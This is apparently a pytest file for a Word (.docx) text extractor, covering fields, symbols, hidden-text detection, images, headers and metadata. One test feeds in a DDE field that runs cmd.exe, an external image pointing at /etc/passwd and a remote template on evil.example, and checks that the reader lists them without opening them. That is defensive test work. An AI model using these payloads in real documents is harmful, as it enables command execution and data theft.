"""What counts as text in a Word document, and where it stands."""

from __future__ import annotations

import pytest

from builders.docx import PNG, docx, p, read, t, table, texts


def one(inline: str, **parts: str) -> str:
    return read(docx(p(inline), **parts)).blocks[0].text


@pytest.mark.parametrize(
    ("inline", "text"),
    [
        (t("a") + "<w:r><w:tab/><w:t>b</w:t><w:br/><w:t>c</w:t><w:cr/><w:t>d</w:t></w:r>", "a\tb\nc\nd"),
        ("<w:r><w:t>no</w:t><w:noBreakHyphen/><w:t>break</w:t><w:softHyphen/><w:t>x</w:t></w:r>", "no\u2011break\u00adx"),
        ('<w:r><w:sym w:font="Symbol" w:char="F061"/><w:sym w:font="Wingdings" w:char="F0FC"/></w:r>', "α✓"),
        ('<w:r><w:sym w:font="Arial" w:char="00E9"/><w:sym w:char="zz"/></w:r>', "é"),
        ("<w:smartTag><w:smartTagPr/><w:customXml>" + t("tagged") + "</w:customXml></w:smartTag>", "tagged"),
        ("<w:sdt><w:sdtPr><w:tag w:val='no'/></w:sdtPr><w:sdtContent>" + t("held") + "</w:sdtContent></w:sdt>", "held"),
        ("<w:dir w:val='rtl'><w:bdo>" + t("way") + "</w:bdo></w:dir>", "way"),
        ("<w:r><w:t> trimmed </w:t></w:r><w:r><w:t xml:space='preserve'> kept </w:t></w:r>", "trimmed kept "),
        ("<w:r><w:t>two\nlines</w:t></w:r>", "two lines"),
        ("<w:ruby><w:rt>" + t("kana") + "</w:rt><w:rubyBase>" + t("字") + "</w:rubyBase></w:ruby>", "字(kana)"),
        ("<w:r><w:delText>nobody sees this</w:delText></w:r>", "nobody sees this"),
        ("<mc:AlternateContent><mc:Choice>" + t("choice") + "</mc:Choice><mc:Fallback>" + t("no") + "</mc:Fallback></mc:AlternateContent>", "choice"),
        ("<w:unheardOf>" + t("still text") + "</w:unheardOf>", "still text"),
    ],
)  # fmt: skip
def test_inline(inline: str, text: str) -> None:
    assert one(inline) == text


def test_deleted_text_outside_a_deletion_is_in_no_reading_but_the_original() -> None:
    data = docx(p("a", "<w:r><w:delText>b</w:delText></w:r>"))
    assert (texts(data), texts(data, "original")) == (["a"], ["ab"])


def field(instruction: str, result: str) -> str:
    return (
        "<w:r><w:fldChar w:fldCharType='begin'/></w:r>"
        f"<w:r><w:instrText>{instruction}</w:instrText></w:r>"
        f"<w:r><w:fldChar w:fldCharType='separate'/></w:r>{result}<w:r><w:fldChar w:fldCharType='end'/></w:r>"
    )


def test_a_fields_result_is_text_and_its_instruction_is_not() -> None:
    assert one(t("p. ") + field("PAGE", t("7")) + t("!")) == "p. 7!"
    nested = field("IF 1 = " + "</w:instrText></w:r>" + field("REF x", t("inner")) + "<w:r><w:instrText>", t("shown"))
    assert one(nested) == "shown"
    assert one("<w:fldSimple w:instr='AUTHOR'>" + t("Ann") + "</w:fldSimple>") == "Ann"


def test_a_field_may_span_paragraphs() -> None:
    body = (
        p(
            "<w:r><w:fldChar w:fldCharType='begin'/><w:instrText>TOC</w:instrText><w:fldChar w:fldCharType='separate'/></w:r>",
            "1",
        )
        + p("2")
        + p("<w:r><w:fldChar w:fldCharType='end'/></w:r>", "after")
    )
    assert texts(docx(body)) == ["1", "2", "after"]


def test_a_field_without_an_end_swallows_nothing_after_its_paragraph() -> None:
    document = read(docx(p("<w:r><w:fldChar w:fldCharType='begin'/><w:instrText>X</w:instrText></w:r>") + p("seen")))
    assert [b.text for b in document.blocks] == ["", "seen"]
    assert [w.code for w in document.warnings] == ["field-unclosed"]


def test_form_fields_show_their_state() -> None:
    box = "<w:ffData><w:checkBox><w:default w:val='0'/><w:checked/></w:checkBox></w:ffData>"
    drop = "<w:ffData><w:ddList><w:result w:val='1'/><w:listEntry w:val='a'/><w:listEntry w:val='b'/></w:ddList></w:ffData>"
    for data, shown in ((box, "☒"), (drop, "b")):
        assert one(f"<w:r><w:fldChar w:fldCharType='begin'>{data}</w:fldChar><w:fldChar w:fldCharType='end'/></w:r>") == shown


def test_links_are_inert_data() -> None:
    body = p(
        "<w:hyperlink r:id='r9' w:anchor='x'>" + t("there") + "</w:hyperlink>",
        field('HYPERLINK "http://b.example/" \\l "s"', t("b")),
    )
    document = read(docx(body, rels=[("r9", "hyperlink", "http://a.example/", "External")]))
    assert [(r.text, r.link) for r in document.blocks[0].runs] == [
        ("there", "http://a.example/#x"),
        ("b", "http://b.example/#s"),
    ]
    assert {link.target for link in document.links} == {"http://a.example/#x", "http://b.example/#s", "http://a.example/"}
    assert document.active_content == []


def test_what_reaches_outside_is_listed_and_not_opened() -> None:
    body = p(
        field('DDEAUTO c:\\\\x\\\\cmd.exe "/c calc"', t("!")),
        "<w:r><w:drawing><wp:inline><a:blip r:link='r2'/></wp:inline></w:drawing></w:r>",
    )
    rels = [("r2", "image", "file:///etc/passwd", "External"), ("r3", "subDocument", "http://x.example/y", "External")]
    settings = {"word/settings.xml": "<w:settings xmlns:w='x'/>"}
    settings["word/_rels/settings.xml.rels"] = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
        'Type="x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    document = read(docx(body, rels=rels, more=settings))
    kinds = {(a.type, a.detail) for a in document.active_content}
    assert ("external_image", "file:///etc/passwd") in kinds
    assert ("external_template", "http://evil.example/t.dotm") in kinds
    assert ("external_link", "http://x.example/y") in kinds
    assert any(kind == "dde" and "cmd.exe" in detail for kind, detail in kinds)
    assert [(i.external, i.bytes) for i in document.images] == [("file:///etc/passwd", None)]


def test_pictures_have_size_kind_alternative_text_and_bytes() -> None:
    drawing = "<w:r><w:drawing><wp:inline><wp:docPr id='1' name='n' descr='a dot'/><a:blip r:embed='r2'/></wp:inline></w:drawing></w:r>"
    data = docx(p(drawing) + p("see", drawing), rels=[("r2", "image", "media/i.bin")], more={"word/media/i.bin": PNG})
    document = read(data, assets=True)
    image = document.images[0]
    assert (image.mime, image.width, image.height, image.alt, image.bytes) == ("image/png", 3, 2, "a dot", len(PNG))
    assert len(document.images) == 1
    assert [(b.type, b.image_id) for b in document.blocks] == [("image", "i1"), ("paragraph", None)]
    assert document.blocks[1].runs[-1].image_id == "i1"
    assert document.counts["images"] == 2


def test_page_breaks_stand_between_the_texts() -> None:
    br = "<w:r><w:br w:type='page'/></w:r>"
    blocks = read(docx(p(br) + p("a", br) + p(br, "b") + p("c", br, "d"))).blocks
    assert [(b.type, b.text) for b in blocks] == [
        ("page_break", ""), ("paragraph", "a"), ("page_break", ""), ("page_break", ""), ("paragraph", "b"), ("paragraph", "c\nd"),
    ]  # fmt: skip
    assert [b.para_index for b in blocks] == [0, 1, None, None, 2, 3]


def test_positions_count_every_paragraph_of_the_source() -> None:
    body = p("0") + table(["1", table(["2"]) + p("3")]) + "<w:sdt><w:sdtContent>" + p("4") + "</w:sdtContent></w:sdt>" + p("5")
    document = read(docx(body, header=p("not counted")))
    assert [(b.para_index, b.text) for b in document.blocks if b.para_index is not None] == [(i, str(i)) for i in range(6)]
    assert document.counts["paragraphs"] == 6


def test_headers_and_footers_are_parts_of_their_own() -> None:
    document = read(docx(p("body"), header=p("top") + table(["cell"]), footer=p("bottom")))
    found = [(b.part, b.text) for b in document.blocks if b.type != "table"]
    assert found == [("body", "body"), ("header", "top"), ("header", "cell"), ("footer", "bottom")]
    assert document.tables[0].part == "header"


@pytest.mark.parametrize(
    ("rpr", "hidden"),
    [
        ("<w:vanish/>", "vanish"),
        ("<w:vanish w:val='0'/>", None),
        ("<w:color w:val='FFFFFF'/>", "white_text"),
        ("<w:color w:val='FEFEFE'/>", "white_text"),
        ("<w:color w:val='FFFFFF'/><w:shd w:val='clear' w:fill='000080'/>", None),
        ("<w:color w:val='000080'/><w:shd w:val='clear' w:fill='000081'/>", "same_as_fill"),
        ("<w:color w:val='FFFF00'/><w:highlight w:val='yellow'/>", "same_as_fill"),
        ("<w:color w:val='FFFFFF'/><w:shd w:val='pct50' w:fill='FFFFFF'/>", None),
        ("<w:color w:val='auto'/>", None),
        ("<w:sz w:val='2'/>", "tiny_text"),
        ("<w:sz w:val='3'/>", None),
        ("<w:rStyle w:val='Gone'/>", "vanish"),
        ("<w:webHidden/>", None),
    ],
)
def test_hidden_text_is_read_and_marked(rpr: str, hidden: str | None) -> None:
    styles = "<w:style w:type='character' w:styleId='Gone'><w:name w:val='Gone'/><w:rPr><w:vanish/></w:rPr></w:style>"
    whole = read(docx(p(t("text", rpr)), styles=styles)).blocks[0]
    assert (whole.text, whole.hidden) == ("text", hidden)
    part = read(docx(p("seen ", t("text", rpr)), styles=styles)).blocks[0]
    assert (part.text, part.hidden) == ("seen text", None)
    assert [r.hidden for r in part.runs if r.text == "text"] == ([hidden] if hidden else [])


def test_white_on_a_dark_cell_is_seen() -> None:
    white = t("x", "<w:color w:val='FFFFFF'/>")
    dark = f"<w:tcPr><w:shd w:val='clear' w:fill='1F3864'/></w:tcPr>{p(white)}"
    assert [b.hidden for b in read(docx(table([dark]))).blocks if b.text] == [None]


def test_a_style_may_hide_and_a_run_may_show() -> None:
    styles = "<w:style w:type='paragraph' w:styleId='S'><w:name w:val='S'/><w:rPr><w:vanish/></w:rPr></w:style>"
    body = p("a", ppr="<w:pStyle w:val='S'/>") + p(t("b", "<w:vanish w:val='false'/>"), ppr="<w:pStyle w:val='S'/>")
    assert [b.hidden for b in read(docx(body, styles=styles)).blocks] == ["vanish", None]


def test_plain_paragraphs_carry_no_runs() -> None:
    blocks = read(docx(p(t("a"), t("b")) + p(t("c", "<w:b/>"), "d"))).blocks
    assert blocks[0].runs == []
    assert [(r.text, r.bold) for r in blocks[1].runs] == [("c", True), ("d", False)]


def test_metadata_is_what_the_package_says() -> None:
    core = (
        '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" '
        'xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:dcterms="http://purl.org/dc/terms/">'
        "<dc:title>T</dc:title><dc:creator>Ann</dc:creator><dcterms:created>2026-01-01T00:00:00Z</dcterms:created></cp:coreProperties>"
    )
    rels = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="r1" Type="x/officeDocument" Target="word/document.xml"/>'
        '<Relationship Id="r2" Type="x/core-properties" Target="docProps/core.xml"/></Relationships>'
    )
    document = read(docx(p("x"), more={"docProps/core.xml": core, "_rels/.rels": rels}))
    assert document.metadata == {"title": "T", "author": "Ann", "created": "2026-01-01T00:00:00Z"}
